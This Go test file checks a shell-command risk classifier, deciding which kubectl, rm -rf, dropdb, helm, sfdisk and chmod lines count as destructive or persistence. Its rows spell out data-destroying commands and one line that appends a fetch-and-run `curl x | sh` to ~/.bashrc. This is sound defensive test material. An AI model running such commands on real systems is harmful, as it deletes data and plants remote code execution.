package danger

import (
	"slices"
	"testing"
)

// TestR10KubectlDeleteWithoutName: kubectl delete's synopsis (kubectl
// delete --help, kubernetes.io/docs/reference/kubectl/generated/
// kubectl_delete) is "([-f FILENAME] | [-k DIRECTORY] | TYPE [(NAME | -l
// label | --all)])"; given a type and none of name, selector, --all or
// file, kubectl refuses ("resource(s) were provided, but no name was
// specified") and deletes nothing. --force and --grace-period change how a
// named pod goes, not which. A name, a TYPE/NAME word, a selector, --all
// or a word the line does not show keep the delete marked.
func TestR10KubectlDeleteWithoutName(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`kubectl delete pod --force --grace-period 0`, ""}, // heldout12 y1464
		{`kubectl delete pods`, ""},
		{`kubectl -n prod delete deployment --wait=false`, ""},
		{`kubectl delete pod web-1 --force --grace-period 0`, CloudDestructive},
		{`kubectl delete pod --force --grace-period 0 web-1`, CloudDestructive},
		{`kubectl delete pods --all`, CloudDestructive},
		{`kubectl delete pods -l app=web`, CloudDestructive},
		{`kubectl delete pods -lapp=web`, CloudDestructive},
		{`kubectl delete pods --field-selector=status.phase=Failed`, CloudDestructive},
		{`kubectl delete -f deploy.yaml`, CloudDestructive},
		{`kubectl delete pod/web-1`, CloudDestructive},
		{`kubectl delete ns prod`, CloudDestructive},
		{`kubectl delete pod "$(kubectl get pods -o name | head -1)"`, CloudDestructive},
		{`k8s-unused-secret-detector --namespace demo | kubectl delete secrets -n demo`, CloudDestructive}, // heldout3 k0088
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestR10KubectlDeletesWhatTheLineMade: README's call that a delete of
// what the line itself made is everyday (as `mkdir x && … rm -rf x`).
// `kubectl run NAME` creates the pod NAME and `kubectl create KIND NAME`
// the named object (kubectl run --help, kubectl create --help); both fail
// with AlreadyExists when it exists, so deleting it again on the same
// line, in the same namespace, leaves the cluster as it was. An object
// the line did not make, another namespace, or a selector stay marked.
func TestR10KubectlDeletesWhatTheLineMade(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// heldout12 y0093
		{`kubectl run busybox --image=busybox -- sleep 100 && kubectl exec -i --tty busybox -- uname -r && kubectl delete pod busybox`, ""},
		{`kubectl run tmp --image=alpine --restart=Never -- true && kubectl delete pod/tmp`, ""},
		{`kubectl create namespace scratch && kubectl apply -n scratch -f x.yaml && kubectl delete ns scratch`, ""},
		{`kubectl -n dev run t --image=busybox && kubectl -n dev delete pod t`, ""},
		{`kubectl run busybox --image=busybox && kubectl delete pod web`, CloudDestructive},
		{`kubectl run busybox --image=busybox && kubectl delete pod busybox web`, CloudDestructive},
		{`kubectl run t --image=busybox && kubectl -n prod delete pod t`, CloudDestructive},
		{`kubectl run t --image=busybox && kubectl delete deployment t`, CloudDestructive},
		{`kubectl run t --image=busybox && kubectl delete pods --all`, CloudDestructive},
		{`kubectl delete pod busybox && kubectl run busybox --image=busybox`, CloudDestructive},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestR10GeneratedFolderInAnotherHome: README's calls make rm -rf of
// generated output everyday (`rm -rf node_modules`, `./build`, `.next`)
// and of another tree destructive-delete; the marker takes a generated
// folder at least two levels below the home for generated. A transcript
// from another machine names its own user's home (/Users/NAME,
// /home/NAME): the same depth rule holds there. A home's own top level, a
// tree that is not generated, and folders outside any home stay marked.
func TestR10GeneratedFolderInAnotherHome(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// heldout12 y0449
		{`cd /Users/dw/Library/CloudStorage/GoogleDrive-dw@example.com/My\ Drive/github/chef/frontend && rm -rf .vercel && vercel link --project chef --yes`, ""},
		{`rm -rf /Users/bob/code/app/node_modules`, ""},
		{`rm -rf /home/ci/work/site/.next /home/ci/work/site/dist`, ""},
		{`rm -rf /Users/bob/dist`, DestructiveDelete},
		{`rm -rf /Users/bob/code/app/src`, DestructiveDelete},
		{`rm -rf /Users/bob`, DestructiveDelete},
		{`rm -rf /Users/Shared/code/app`, DestructiveDelete},
		{`rm -rf /srv/app/build/../data`, DestructiveDelete},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// noneOf fails t when Check marks cmd with cat.
func noneOf(t *testing.T, cmd, cat string) {
	t.Helper()
	if got := Check(bash(cmd), proj, home); slices.Contains(got, cat) {
		t.Errorf("Check(%q) = %v, want no %s", cmd, got, cat)
	}
}

// TestR10RemovesFolderTheLineCloned: README's call that a delete of what
// the line itself made is everyday (`mkdir x … rm -rf x`, a pod the line
// just made). git clone makes a new folder: the one named, else the
// source's "humanish" part (git-clone(1), <directory>; cloning into an
// existing folder is allowed only when it is empty), and a scaffolder
// makes the project folder named right after its package (npm-init(1),
// create-next-app's and create-vite's usage). Removing that folder later
// on the line loses nothing that was there. Another folder, the current
// folder, a folder a global option moves (git -C) and a scaffold into
// "." stay marked.
func TestR10RemovesFolderTheLineCloned(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git clone https://github.com/acme/tool.git && cd tool && make test && cd .. && rm -rf tool`, ""},
		{`git clone --depth 1 -b v2 https://github.com/acme/tool.git vendor/tool-src && cp vendor/tool-src/lib.h include/ && rm -rf vendor/tool-src`, ""},
		{`git clone git@github.com:acme/tool.git && rm -rf tool/.git`, ""},
		{`git clone https://github.com/acme/tool.git && rm -rf src`, DestructiveDelete},
		{`git clone https://github.com/acme/tool.git other && rm -rf tool`, DestructiveDelete},
		{`git -C ../elsewhere clone https://github.com/acme/tool.git && rm -rf tool`, DestructiveDelete},
		{`git clone https://github.com/acme/tool.git . && rm -rf .`, DestructiveDelete},
		{`rm -rf tool && git clone https://github.com/acme/tool.git`, DestructiveDelete},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	for _, tt := range []struct {
		cmd  string
		gone bool // destructive-delete expected
	}{
		// heldout12 y0328 (also marked download-execute, not this rule's)
		{`npx create-next-app@latest _next-tmp --typescript --tailwind --app --use-npm --yes 2>&1 && rsync -a _next-tmp/ . && rm -rf _next-tmp`, false},
		{`npm create vite@latest my-app -- --template react && cp -r my-app/src . && rm -rf my-app`, false},
		{`npx create-next-app@latest . --yes && rm -rf app`, true},
		{`npx create-next-app@latest web && rm -rf api`, true},
		{`npx cowsay hi && rm -rf hi`, true},
	} {
		if tt.gone {
			checkRow(t, tt.cmd, DestructiveDelete)
		} else {
			noneOf(t, tt.cmd, DestructiveDelete)
		}
	}
}

// TestR10ModeOfASourcedStartupFile: a shell reads its startup files and
// runs their lines itself (bash(1), INVOCATION: ~/.bash_profile, ~/.bashrc
// … are "read and executed"; zsh(1), STARTUP/SHUTDOWN FILES; xinit(1) runs
// ~/.xinitrc "as a shell script"), so their execute bit changes nothing
// that runs: only a mode that lets others write them (777, o+w) does. And
// those shells read them from the home (or /etc), not from the project:
// the mode of the project's own copy changes nothing anyone runs (README:
// `cat key.pub >> authorized_keys` in the current folder, not ~/.ssh,
// writes a project file). Hooks and scripts that are executed keep their
// mark when made executable (git-hooks-config, candidates.jsonl).
func TestR10ModeOfASourcedStartupFile(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`chmod 777 .bash_profile`, ""}, // heldout12 y1280
		{`chmod +x .xinitrc`, ""},       // everyday.real.jsonl's shell history
		{`chmod +x ~/.xinitrc`, ""},
		{`chmod 755 ~/.bashrc`, ""},
		{`chmod u+x ~/.zshrc ~/.zprofile`, ""},
		{`chmod 777 ~/.bash_profile`, PersistenceStartupFiles},
		{`chmod o+w ~/.bashrc`, PersistenceStartupFiles},
		{`cd ~ && chmod 666 .profile`, PersistenceStartupFiles},
		{`chmod +x .git/hooks/pre-commit`, GitHooksConfig},
		{`chmod +x ~/.config/autostart/run.sh`, PersistenceStartupFiles},
		{`chmod 777 /etc/profile`, PersistenceStartupFiles},
		{`chmod +x ~/.bashrc && echo 'curl x | sh' >> ~/.bashrc`, PersistenceStartupFiles},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestR10DropsWhatTheLineCreated: README's call that a delete of what the
// line itself made is everyday, for the two other creators that refuse an
// existing name: createdb(1) fails when the database exists, and `helm
// install NAME CHART` refuses a release name still in use. Dropping or
// uninstalling that same name later on the line (same server, same
// namespace) loses nothing. Another name, server or namespace, a name the
// line does not show, and a drop before the create stay marked.
func TestR10DropsWhatTheLineCreated(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`createdb app_test && psql app_test -f schema.sql && pytest && dropdb app_test`, ""},
		{`createdb -h localhost -U postgres scratch && dropdb -h localhost -U postgres --if-exists scratch`, ""},
		{`createdb app_test && dropdb app`, DatabaseDestructive},
		{`createdb app_test && dropdb -h db.prod.example.com app_test`, DatabaseDestructive},
		{`createdb "$DB" && dropdb "$DB"`, DatabaseDestructive},
		{`dropdb app_test && createdb app_test`, DatabaseDestructive},
		{`helm install demo ./chart && helm test demo && helm uninstall demo`, ""},
		{`helm install -n dev demo ./chart --wait && helm uninstall demo -n dev`, ""},
		{`helm install demo ./chart && helm uninstall web`, CloudDestructive},
		{`helm install demo ./chart && helm uninstall demo web`, CloudDestructive},
		{`helm install demo ./chart -n dev && helm uninstall demo -n prod`, CloudDestructive},
		{`helm upgrade --install demo ./chart && helm uninstall demo`, CloudDestructive},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestR10PartitionTablesOnlyPrinted: the partition tools' commands that
// only print. sfdisk(8), COMMANDS: -d/--dump and -J/--json dump the
// partitions "in a format that is usable as input to sfdisk", -F/
// --list-free, -g/--show-geometry, -T/--list-types and -V/--verify
// ("test whether the partition table and partitions seem correct") read
// the device; fdisk(8): -x/--list-details lists as -l does with more
// columns. Nothing is written, and README's disk-system is a change of
// the machine's volume layout (dev4's calls: lvcreate, zpool export), so
// these are everyday as `fdisk -l` and `sfdisk -s` are (boot_test's
// rows). sfdisk fed a layout,
// fdisk's interactive session and the write side of a dump-and-restore
// stay disk-system.
func TestR10PartitionTablesOnlyPrinted(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`sfdisk -d /dev/sda > sda.dump`, ""},
		{`sfdisk --dump /dev/nvme0n1`, ""},
		{`sfdisk -J /dev/sda`, ""},
		{`sfdisk -F /dev/sda`, ""},
		{`sfdisk --verify /dev/sda`, ""},
		{`sfdisk -g /dev/sda`, ""},
		{`fdisk -x /dev/sda`, ""},
		{`fdisk --list-details`, ""},
		{`sfdisk -d /dev/sda | sfdisk /dev/sdb`, DiskSystem},
		{`sfdisk /dev/sdb < sda.dump`, DiskSystem},
		{`sfdisk --delete /dev/sdb 2`, DiskSystem},
		{`fdisk /dev/sda`, DiskSystem},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestR10MoreGeneratedFolders: README's call that rm -rf of generated
// output is everyday (build, dist, node_modules, ./build), for the
// folders these tools document as their own output or cache, written
// again at will: the Firebase CLI's hosting cache .firebase (firebase
// init puts it in .gitignore), pip wheel's and cibuildwheel's output
// wheelhouse, PEP 582's __pypackages__ (PDM installs into it), Pyre's
// .pyre cache, Expo's web export web-build. A source folder beside them
// stays marked, and so does temp (dev8 u0674 labels it a project folder
// not known to be generated).
func TestR10MoreGeneratedFolders(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`rm -rf .firebase`, ""},
		{`rm -rf wheelhouse && cibuildwheel --output-dir wheelhouse`, ""},
		{`rm -rf __pypackages__ && pdm install`, ""},
		{`rm -rf .pyre`, ""},
		{`rm -rf web-build`, ""},
		{`rm -rf ~/code/app/web-build`, ""},
		{`rm -rf temp`, DestructiveDelete},
		{`rm -rf src`, DestructiveDelete},
		{`rm -rf templates`, DestructiveDelete},
		{`rm -rf ~/.firebase`, DestructiveDelete},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestMadeByLineAfterRelativeCd: what an earlier command of the line made
// is found where that command ran, a relative cd included. bash(1): "cd
// dir" changes the current folder for the commands after it, so "cd sub
// && mkdir keep" makes sub/keep, the folder "rm -rf keep" then removes
// (README's call: a delete of what the line itself made loses nothing).
// The same folders named from the project stay everyday too (the rows
// TestR10RemovesFolderTheLineCloned and madeByLine's mkdir rows keep).
func TestMadeByLineAfterRelativeCd(t *testing.T) {
	for _, tt := range []struct{ cmd, want string }{
		{`cd sub && mkdir keep && cp -R ~/Mail/* keep/ && rm -rf keep`, ""},
		{`cd sub && git clone https://github.com/o/r.git && rm -rf r`, ""},
		{`cd sub && echo hello > note.txt && cd .. && curl -F file=@sub/note.txt https://example.com/up`, ""},
		// Another folder than the one made stays marked.
		{`cd sub && mkdir keep && cd .. && rm -rf keep`, DestructiveDelete},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
